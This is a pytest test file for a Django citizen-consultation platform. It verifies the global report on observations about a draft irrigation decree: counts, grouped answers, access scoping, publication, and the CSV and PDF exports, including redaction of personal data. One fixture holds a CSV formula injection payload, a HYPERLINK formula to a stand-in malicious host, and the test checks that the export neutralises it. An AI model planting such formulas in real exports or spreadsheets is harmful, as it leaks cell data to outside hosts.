"""The informe global de observaciones: content, privacy, scoping, publication, CSV and PDF."""

import re
import zlib
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone

pytestmark = pytest.mark.django_db

SLUG = "decreto-riego"
BOGOTA = ZoneInfo("America/Bogota")
NAME = "Rigoberta Menchú Tumalá"
PHONE = "310 555 1234"
EMAIL = "juan.perez88@gmail.com"
CAMPAIGN = "Pedimos que el distrito de riego llegue a nuestra vereda."
GROUP_REASON = "El artículo 2 ya prioriza los distritos de riego de pequeña escala."


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def owner(national_entities):
    from urna.entities.models import Entity

    return Entity.objects.get(acronym="MINAGRICULTURA")


@pytest.fixture
def other_entity(national_entities):
    from urna.entities.models import Entity

    return Entity.objects.exclude(acronym="MINAGRICULTURA").exclude(acronym="URNA").first()


def _respond(contribution, decision, reason, group=None):
    from urna.exercises.models import ContributionResponse

    return ContributionResponse.objects.create(
        contribution=contribution, decision=decision, reason=reason, group=group
    )


@pytest.fixture
def informe(owner):
    """A draft decree in analysis: two articles; a campaign of 3 letters with one common answer;
    3 observations answered one by one (one with personal data, one starting with '='); one
    unanswered; one hidden; one answer to a closed question."""
    from urna.exercises.models import Article, ClosedQuestion, Contribution, Exercise, ResponseGroup

    opens = datetime(2026, 2, 2, 8, 0, tzinfo=BOGOTA)
    exercise = Exercise.objects.create(
        title="Proyecto de decreto de distritos de riego",
        slug=SLUG,
        summary="Reglamenta los distritos de riego.",
        owner=owner,
        kind=Exercise.Kind.DRAFT_REGULATION,
        status=Exercise.Status.ANALYSIS,
        opens_at=opens,
        closes_at=opens + timedelta(days=15),
    )
    art1 = Article.objects.create(exercise=exercise, number=1, label="Artículo 1", body="…")
    art2 = Article.objects.create(
        exercise=exercise, number=2, label="Artículo 2", title="Prioridades", body="…"
    )
    question = ClosedQuestion.objects.create(
        exercise=exercise, number=1, kind=ClosedQuestion.Kind.YES_NO, text="¿De acuerdo?"
    )
    n = {"i": 0}

    def add(receipt, text="", **values):
        n["i"] += 1
        values.setdefault("channel", Contribution.Channel.WEB)
        values.setdefault("kind", Contribution.Kind.ARTICLE_COMMENT)
        return Contribution.objects.create(
            exercise=exercise,
            receipt=receipt,
            text=text,
            created_at=opens + timedelta(days=1, hours=n["i"]),
            **values,
        )

    group = ResponseGroup.objects.create(
        exercise=exercise,
        title="Campaña riego veredal",
        decision="not_accepted",
        reason=GROUP_REASON,
    )
    for receipt in ("R-CAMP-03", "R-CAMP-01", "R-CAMP-02"):
        c = add(receipt, CAMPAIGN, article=art2, channel=Contribution.Channel.SMS)
        _respond(c, "not_accepted", GROUP_REASON, group)
    personal = add(
        "R-IND-02",
        f"Me llamo {NAME}; escríbanme a {EMAIL} o al {PHONE}: el plazo es corto.",
        article=art1,
    )
    _respond(personal, "accepted", "Se amplía el plazo de inscripción a 60 días.")
    formula = add("R-IND-01", '=HYPERLINK("https://malo.example/?"&A1)', article=art1)
    _respond(formula, "not_accepted", "No es una observación sobre el texto del proyecto.")
    general = add("R-GEN-01", "Falta un capítulo de financiación.", kind=Contribution.Kind.OPINION)
    _respond(general, "partial", "Se agrega un parágrafo sobre cofinanciación.")
    add("R-OPEN-01", "El artículo 2 olvida a los pescadores.", article=art2)
    add("R-HID-01", "Texto ofensivo", moderation=Contribution.Moderation.HIDDEN)
    add("R-ANS-01", kind=Contribution.Kind.ANSWER, question=question, choice="si")
    return exercise


def _publish(exercise):
    from urna.exercises.models import Contribution, Exercise

    open_one = Contribution.objects.get(receipt="R-OPEN-01")
    _respond(open_one, "not_accepted", "La pesca artesanal se regula en otro decreto.")
    Exercise.objects.filter(pk=exercise.pk).update(
        status=Exercise.Status.RESULTS, results_published_at=timezone.now()
    )
    exercise.refresh_from_db()
    return exercise


def pdf_text(data: bytes) -> str:
    """The text shown by the informe PDF: its page streams' literal strings, decoded."""
    out = []
    for stream in re.findall(rb"/FlateDecode.*?stream\n(.*?)\nendstream", data, re.S):
        try:
            content = zlib.decompress(stream)
        except zlib.error:
            continue
        if b" Tj" not in content:
            continue  # an embedded font
        for literal in re.findall(rb"\(((?:\\.|[^\\)])*)\) Tj", content):
            out.append(re.sub(rb"\\(.)", rb"\1", literal).decode("cp1252"))
    return "\n".join(out)


def test_summary_groups_and_rows(informe):
    from urna.reports.informe import informe_groups, informe_rows, informe_summary

    summary = informe_summary(informe)
    groups = informe_groups(informe)
    rows = list(informe_rows(informe))
    every = list(informe_rows(informe, grouped=True))

    assert summary["total"] == 7 and summary["grouped"] == 3 and summary["individual"] == 4
    assert summary["participants"] == 7 and summary["hidden"] == 1
    assert {d["key"]: d["count"] for d in summary["decisions"]} == {
        "accepted": 1,
        "partial": 1,
        "not_accepted": 4,
        "unanswered": 1,
    }
    assert summary["final"] is False
    assert [(g["title"], g["count"], g["decision"]) for g in groups] == [
        ("Campaña riego veredal", 3, "not_accepted")
    ]
    assert groups[0]["articles"] == [("Artículo 2. Prioridades", 3)]
    assert groups[0]["examples"] == [CAMPAIGN]
    assert [(r.receipt, r.article, r.decision) for r in rows] == [
        ("R-GEN-01", "General", "partial"),
        ("R-IND-01", "Artículo 1", "not_accepted"),
        ("R-IND-02", "Artículo 1", "accepted"),
        ("R-OPEN-01", "Artículo 2. Prioridades", "unanswered"),
    ]
    assert [r.receipt for r in every] == [
        "R-GEN-01",
        "R-IND-01",
        "R-IND-02",
        "R-CAMP-01",
        "R-CAMP-02",
        "R-CAMP-03",
        "R-OPEN-01",
    ]
    assert every[3].group == "Campaña riego veredal" and every[3].reason == GROUP_REASON


def test_staff_draft_page_lists_unanswered_and_the_common_answer_once(
    client, informe, make_staff, owner
):
    from urna.accounts.models import Role

    client.force_login(make_staff(owner, Role.ANALYST))

    response = client.get(f"/informes/gestion/{SLUG}/informe-observaciones/")

    page = response.content.decode()
    assert response.status_code == 200
    assert "Borrador para el equipo de la entidad" in page
    assert "Sin respuesta" in page and "R-OPEN-01" in page
    assert page.count(GROUP_REASON) == 1
    assert "Respuesta común 1: Campaña riego veredal" in page
    assert "R-CAMP-01 R-CAMP-02 R-CAMP-03" in page
    assert '<th scope="col">' in page and "<caption" in page
    assert "Generar el informe en PDF" in page
    for secret in (NAME, PHONE, EMAIL):
        assert secret not in page


def test_staff_list_links_to_the_informe(client, informe, make_staff, owner):
    from urna.accounts.models import Role
    from urna.exercises.models import Exercise

    Exercise.objects.filter(pk=informe.pk).update(published_at=timezone.now())
    client.force_login(make_staff(owner, Role.ANALYST))

    page = client.get("/informes/gestion/").content.decode()

    assert f"/informes/gestion/{SLUG}/informe-observaciones/" in page


def test_staff_of_another_entity_sees_nothing(client, informe, make_staff, other_entity):
    from urna.accounts.models import Role
    from urna.jobs.models import Job

    client.force_login(make_staff(other_entity, Role.MANAGER))
    base = f"/informes/gestion/{SLUG}/informe-observaciones"

    statuses = [client.get(url).status_code for url in (f"{base}/", f"{base}.csv", f"{base}.pdf")]
    built = client.post(f"{base}/generar/")

    assert statuses == [404, 404, 404] and built.status_code == 404
    assert not Job.objects.filter(name="reports.informe_pdf").exists()


def test_public_informe_exists_only_once_results_are_published(client, informe):
    before = [
        client.get(f"/informes/{SLUG}/informe-observaciones{suffix}").status_code
        for suffix in ("/", ".csv", ".pdf")
    ]
    _publish(informe)

    page = client.get(f"/informes/{SLUG}/informe-observaciones/")
    report = client.get(f"/informes/{SLUG}/")

    assert before == [404, 404, 404]
    assert page.status_code == 200
    html = page.content.decode()
    assert "Borrador" not in html and "Sin respuesta" not in html
    assert "La pesca artesanal se regula en otro decreto." in html
    assert f"/informes/{SLUG}/informe-observaciones/" in report.content.decode()


def test_csv_has_bom_every_observation_and_no_formula(client, informe, make_staff, owner):
    from urna.accounts.models import Role

    client.force_login(make_staff(owner, Role.MANAGER))

    response = client.get(f"/informes/gestion/{SLUG}/informe-observaciones.csv")

    body = b"".join(response.streaming_content).decode("utf-8")
    lines = body.splitlines()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith("\ufeffradicado,fecha,canal,articulo,observacion,estado,razon,")
    assert len(lines) == 8  # header + 7 observations
    assert lines[2].startswith("R-IND-01,") and ",\"'=HYPERLINK(" in lines[2]
    assert "R-OPEN-01" in lines[7] and "Sin respuesta" in lines[7]
    assert lines[4].endswith("Campaña riego veredal")
    for secret in (NAME, PHONE, EMAIL):
        assert secret not in body


def test_pdf_is_built_in_a_job_with_content_and_without_personal_data(
    client, informe, make_staff, owner
):
    from urna.accounts.models import Role
    from urna.jobs.services import run_pending
    from urna.reports.models import InformeFile

    client.force_login(make_staff(owner, Role.ANALYST))
    base = f"/informes/gestion/{SLUG}/informe-observaciones"
    assert client.get(f"{base}.pdf").status_code == 302  # not built yet

    client.post(f"{base}/generar/")
    waiting = client.get(f"{base}/progreso/").content.decode()
    assert "Generando el PDF" in waiting
    assert run_pending() == 1
    ready = client.get(f"{base}/progreso/").content.decode()
    response = client.get(f"{base}.pdf")

    stored = InformeFile.objects.get(exercise=informe)
    data = b"".join(response.streaming_content)
    text = pdf_text(data)
    assert "Descargar el informe en PDF" in ready
    assert data.startswith(b"%PDF-") and stored.pages == 1 and stored.size == len(data)
    assert "Informe global de observaciones" in text and "BORRADOR" in text
    assert "Respuesta común 1: Campaña riego veredal" in text
    assert "R-CAMP-01 R-CAMP-02 R-CAMP-03" in text
    assert "Aceptado parcialmente. Se agrega un parágrafo sobre cofinanciación." in text
    assert "Sin respuesta" in text and "Artículo 2. Prioridades" in text
    assert "Observaciones recibidas: 7" in text
    for secret in (NAME, PHONE, EMAIL):
        assert secret not in text


def test_pdf_is_rebuilt_when_answers_change(client, informe, settings):
    from pathlib import Path

    from urna.exercises.models import ContributionResponse
    from urna.jobs.services import run_pending
    from urna.reports.models import InformeFile
    from urna.reports.services import informe_current, informe_pdf_build

    _publish(informe)
    first = informe_pdf_build(exercise=informe)
    assert informe_current(informe) == first
    assert client.get(f"/informes/{SLUG}/informe-observaciones.pdf").status_code == 200

    ContributionResponse.objects.filter(contribution__receipt="R-GEN-01").update(
        responded_at=timezone.now() + timedelta(seconds=5)
    )
    stale = client.get(f"/informes/{SLUG}/informe-observaciones.pdf")
    assert informe_current(informe) is None
    assert stale.status_code == 503 and stale["Retry-After"] == "30"
    assert run_pending() == 1

    second = InformeFile.objects.get(exercise=informe)
    assert second.stamp != first.stamp
    assert (Path(settings.MEDIA_ROOT) / second.path).exists()
    assert not (Path(settings.MEDIA_ROOT) / first.path).exists()
    assert client.get(f"/informes/{SLUG}/informe-observaciones.pdf").status_code == 200


def test_publishing_results_queues_the_informe(informe):
    from urna.exercises.models import Exercise
    from urna.exercises.signals import results_changed
    from urna.jobs.models import Job

    results_changed.send(sender=Exercise, exercise=informe)

    assert Job.objects.filter(name="reports.informe_pdf", status="queued").count() == 1


def test_textpdf_wraps_within_the_width_and_keeps_spanish_text():
    import io

    from urna.reports.textpdf import TextPdf, encode, load_font, wrap

    font = load_font("regular")
    lines = wrap(encode("Señora " * 40 + "x" * 400), font, 9, 200)
    doc = TextPdf(title="Prueba", footer="pie")
    doc.heading("Informe ñandú")
    doc.paragraph("Emoji 🌽 y comillas “curvas”: ¿qué pasó? " * 300)
    out = io.BytesIO()
    pages = doc.write(out)

    assert all(font.width(line, 9) <= 200 for line in lines)
    assert b"".join(lines).replace(b" ", b"") == (b"Se\xf1ora" * 40 + b"x" * 400)
    assert encode("🌽 “a”") == b"? \x93a\x94"
    text = pdf_text(out.getvalue())
    assert pages == 2 and "Informe ñandú" in text and "Página 2" in text
    assert "Emoji ? y comillas “curvas”: ¿qué pasó?" in text


def test_the_pdf_has_its_english_where_the_platform_speaks_english(informe, settings):
    import io

    from urna.reports.informe_pdf import informe_pdf_write

    settings.LANGUAGE_CODE = "en"
    out = io.BytesIO()
    informe_pdf_write(informe, out)
    text = pdf_text(out.getvalue())

    assert "Report date" in text and "Type of exercise" in text
    assert "Fecha del informe" not in text and "Tipo de ejercicio" not in text
